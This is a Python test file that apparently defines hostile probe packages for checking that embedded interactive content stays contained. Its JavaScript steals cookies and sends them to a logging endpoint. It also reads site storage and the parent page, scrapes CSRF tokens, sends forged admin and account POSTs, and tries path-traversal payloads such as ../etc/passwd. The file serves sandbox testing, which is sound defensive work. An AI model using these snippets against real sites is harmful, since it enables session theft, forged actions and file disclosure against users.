# ruff: noqa: E501 -- tables and scripts read better in long lines
"""Contained packages that want to read: cookies, storage, the page around them, what the signed-in person may see."""

from tests.media.hostile.probe import FOLDER, probe

probe(
    "cookie-thief",
    "read",
    "Reads the site's cookies, and sets one of its own",
    """
  await attempt("cookie", () => document.cookie);
  await attempt("cookie-set", () => { document.cookie = LEFT + "=1; path=/"; return document.cookie; });
  await attempt("cookie-store", async () => (await window.cookieStore.getAll()).map((one) => one.name).join());
  await attempt("cookie-elsewhere", () => {
    const value = document.cookie;
    new Image().src = hit("cookie") + "?" + encodeURIComponent(value);
    return value;
  });
""",
)

probe(
    "storage-local",
    "read",
    "Reads what the site keeps in localStorage, and leaves something there",
    """
  await attempt("local-read", () => window.localStorage.getItem(PLANTED));
  await attempt("local-write", () => { window.localStorage.setItem(LEFT, "1"); return ""; });
  await attempt("local-all", () => Object.keys(window.localStorage).filter((key) => key === PLANTED).join());
  await attempt("local-fresh", () => {
    const frame = element("iframe", {});
    return frame.contentWindow.localStorage.getItem(PLANTED);
  });
""",
)

probe(
    "storage-session",
    "read",
    "Reads what the site keeps in sessionStorage and in the window's name",
    """
  await attempt("session-read", () => window.sessionStorage.getItem(PLANTED));
  await attempt("session-write", () => { window.sessionStorage.setItem(LEFT, "1"); return ""; });
  await attempt("window-name", () => (window.name || "").includes(PLANTED) ? window.name : "");
  window.name = LEFT;
""",
)

probe(
    "storage-database",
    "read",
    "Reads the site's databases (IndexedDB), and leaves one",
    """
  await attempt("database-list", async () => (await indexedDB.databases()).map((one) => one.name).join());
  await attempt("database-open", () => new Promise((resolve, reject) => {
    const asked = indexedDB.open(PLANTED);
    asked.onsuccess = () => resolve([...asked.result.objectStoreNames].join() || "an empty database of its own");
    asked.onerror = () => reject(asked.error);
  }));
  await attempt("database-leave", () => new Promise((resolve, reject) => {
    const asked = indexedDB.open(LEFT);
    asked.onsuccess = () => resolve("left one");
    asked.onerror = () => reject(asked.error);
  }));
""",
)

probe(
    "storage-caches",
    "read",
    "Reads the site's caches and private file system, asks for lasting storage",
    """
  await attempt("caches", async () => (await caches.keys()).join());
  await attempt("cache-leave", async () => { await caches.open(LEFT); return "left one"; });
  await attempt("files", async () => (await navigator.storage.getDirectory()).name + "a directory");
  await attempt("persist", () => navigator.storage.persist());
  await attempt("locks", async () => (await navigator.locks.query()).held.map((one) => one.name).join());
  await attempt("storage-access", async () => { await document.requestStorageAccess(); return "granted"; });
""",
)

probe(
    "parent-page",
    "read",
    "Reads and changes the page around its frame",
    """
  await attempt("parent-title", () => window.parent.document.title);
  await attempt("parent-text", () => window.parent.document.body.innerText);
  await attempt("top-text", () => window.top.document.body.innerText);
  await attempt("parent-address", () => window.parent.location.href);
  await attempt("top-address", () => window.top.location.href);
  await attempt("frame-element", () => window.frameElement && window.frameElement.outerHTML);
  await attempt("frame-attribute", () => { window.frameElement.removeAttribute("sandbox"); return "removed"; });
  await attempt("parent-write", () => { window.parent.document.body.innerHTML = LEFT; return "written"; });
  await attempt("parent-variable", () => { window.parent[LEFT] = 1; return "set"; });
  await attempt("opener", () => window.opener && window.opener.document.title);
  await attempt("sibling", () => [...Array(window.parent.length).keys()].map((number) => {
    try { return window.parent[number] !== window && window.parent[number].document.title; } catch (error) { return ""; }
  }).filter(Boolean).join());
  await attempt("domain", () => { document.domain = location.hostname; return window.parent.document.title; });
""",
)

probe(
    "csrf-token",
    "read",
    "Looks for the CSRF token in cookie, form, meta element and page",
    """
  await attempt("csrf-cookie", () => (document.cookie.match(/csrftoken=([^;]+)/) || [])[1]);
  await attempt("csrf-parent", () => window.parent.document.querySelector("[name=csrfmiddlewaretoken]").value);
  await attempt("csrf-own", () => document.querySelector("[name=csrfmiddlewaretoken]")?.value);
  for (const home of homes) {
    for (const path of ["/", "/me/", "/admin/login/", "/accounts/login/"]) {
      await attempt("csrf-fetch " + path, async () => {
        const answer = await fetch(home + path, {credentials: "include"});
        return (/csrfmiddlewaretoken[^>]*value=.([\\w-]+)/.exec(await answer.text()) || [])[1];
      });
    }
  }
""",
)

probe(
    "fetch-signed-in",
    "read",
    "Asks for the person's own pages and the admin with their cookies",
    """
  const paths = ["/me/", "/admin/", "/admin/users/", "/accounts/email/", "/api/", "/forum/", "/documents/1/"];
  await Promise.all(homes.flatMap((home) => paths.map((path) => attempt("fetch " + path, async () => {
    const answer = await fetch(home + path, {credentials: "include", mode: "cors"});
    return answer.status + " " + (await answer.text()).slice(0, 80);
  }))));
  await Promise.all(homes.flatMap((home) => paths.map((path) => attempt("request " + path, () => new Promise((resolve, reject) => {
    const asked = new XMLHttpRequest();
    asked.open("GET", home + path);
    asked.withCredentials = true;
    asked.onload = () => resolve(asked.status + " " + asked.responseText.slice(0, 80));
    asked.onerror = () => reject(new Error("error event"));
    asked.send();
  })))));
  await Promise.all(homes.map((home) => attempt("fetch-own-type", async () => {
    const answer = await fetch(home + "/me/", {credentials: "include", mode: "no-cors"});
    return answer.type === "opaque" ? "the request went out" : answer.status;
  })));
""",
)

probe(
    "post-signed-in",
    "act",
    "Posts to the admin and to the person's account with their cookies",
    """
  const forms = {"/admin/pages/1/delete/": "x=1", "/me/leave/": "confirm=yes", "/accounts/logout/": "", "/accounts/email/": "email=a"};
  await Promise.all(homes.flatMap((home) => Object.keys(forms).map((path) => attempt("post " + path, async () => {
    const answer = await fetch(home + path, {method: "POST", credentials: "include", mode: "no-cors", body: forms[path],
      headers: {"Content-Type": "application/x-www-form-urlencoded"}});
    return "sent, " + answer.type;
  }))));
  for (const home of homes) {
    await attempt("beacon", () => { navigator.sendBeacon(home + "/accounts/logout/", "x=1"); return ""; });
  }
""",
)

probe(
    "frame-signed-in",
    "read",
    "Opens the person's pages in frames of its own and reads them",
    """
  for (const home of homes) {
    for (const [what, name] of [["/me/", "iframe"], ["/admin/", "iframe"], ["/me/", "object"], ["/me/", "embed"]]) {
      await attempt(name + " " + what, async () => {
        const frame = element(name, name === "object" ? {data: home + what} : {src: home + what});
        await Promise.race([ends(frame), pause(1500)]);
        return frame.contentDocument && frame.contentDocument.body.innerText;
      });
    }
  }
""",
)

probe(
    "own-token",
    "read",
    "Uses the address of its own files to look for other people's files",
    """
  const mine = (document.querySelector("script[src*='probe.js']") || {}).src || location.href;
  const base = mine.replace(/[^/]*$/, "");
  const others = ["../../../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/%2e%2e/settings/base.py",
    "....//....//etc/passwd", "..\\\\..\\\\..\\\\etc\\\\passwd", "%00", "../../.git/config", "../../../db.sqlite3", ""];
  await Promise.all(others.map((other) => attempt("climb " + other, async () => {
    const answer = await fetch(base + other);
    const text = await answer.text();
    return answer.ok && !text.includes("HostileProbe") && text.slice(0, 60);
  })));
  await attempt("listing", async () => {
    const answer = await fetch(base);
    return answer.ok && (await answer.text()).slice(0, 60);
  });
  await attempt("other-version", async () => {
    const changed = base.replace(/[0-9a-f]{32,}/g, (hash) => hash.split("").reverse().join(""));
    if (changed === base) { return ""; }
    const answer = await fetch(changed + "probe.js");
    return answer.ok && "another version answered";
  });
""",
)

probe(
    "player-secrets",
    "read",
    "Looks through the player's settings for a name, a mail address, a token of the person",
    """
  await attempt("user", () => window.H5PIntegration && H5PIntegration.user && JSON.stringify(H5PIntegration.user));
  await attempt("settings", () => (JSON.stringify(window.H5PIntegration || {}).match(/[^"]*(csrf|mail|sessionid)[^"]*/i) || [])[0]);
  await attempt("globals", () => Object.keys(window).filter((key) => /csrf|session(?!Storage)|token/i.test(key)).join());
  await attempt("referrer", () => /\\/.+/.test(document.referrer.replace(/^https?:\\/\\/[^/]+\\/?/, "/")) && document.referrer);
""",
)

probe(
    "channels",
    "read",
    "Listens on channels that pages of one site share",
    """
  await attempt("broadcast", () => new Promise((resolve) => {
    const channel = new BroadcastChannel("continuum");
    channel.onmessage = (event) => resolve(JSON.stringify(event.data));
    channel.postMessage(LEFT);
    setTimeout(() => resolve(""), 500);
  }));
  await attempt("shared-worker", () => new Promise((resolve, reject) => {
    const worker = new SharedWorker("data:text/javascript,onconnect = e => e.ports[0].postMessage('alive')");
    worker.port.onmessage = () => resolve("started");
    worker.onerror = () => reject(new Error("error event"));
  }), 1000);
""",
)

# The same script in a fresh realm: shims and locks that the player put on its own window are not there.
INNER = """
(function () {
  const say = (type, what, value) => {
    for (const other of new Set([window.parent, window.top])) {
      other.postMessage({continuum: 1, type: type, package: __PACKAGE__, what: what, value: value && String(value).slice(0, 200)}, "*");
    }
  };
  say("tried", "inner-script");
  const tries = {
    "inner-cookie": () => document.cookie,
    "inner-local": () => localStorage.getItem("continuum-planted"),
    "inner-top": () => window.top.document.title,
    "inner-connection": () => {
      const connection = new RTCPeerConnection({iceServers: [{urls: __ELSEWHERE__.replace("http://", "stun:")}]});
      connection.createDataChannel("x");
      connection.createOffer().then((offer) => connection.setLocalDescription(offer));
      connection.onicecandidate = (event) => event.candidate && say("blocked", "inner-candidate", event.candidate.candidate);
      return "";
    },
    "inner-image": () => { new Image().src = __ELSEWHERE__ + "/hit/" + __PACKAGE__ + "/inner-image"; return ""; }
  };
  for (const what of Object.keys(tries)) {
    say("tried", what);
    try { const loot = tries[what](); if (loot) { say("got", what, loot); } else { say("blocked", what, "nothing there"); } }
    catch (error) { say("blocked", what, error.name); }
  }
})();
"""
probe("fresh-realm", "read", "Loads a script of its own into a frame in its frame, where no shim was put", """
  const inner = new URL("inner.js", (document.querySelector("script[src*='probe.js']") || {src: location.href}).src).href;
  tried("inner-srcdoc");
  element("iframe", {srcdoc: "<script src='" + inner + "'></" + "script>"});
  tried("inner-blob");
  await attempt("inner-blank", () => {
    const frame = element("iframe", {});
    const script = frame.contentDocument.createElement("script");
    script.src = inner;
    frame.contentDocument.body.appendChild(script);
    return "";
  });
  await pause(2500);
""", files={f"{FOLDER}/inner.js": INNER})  # fmt: skip
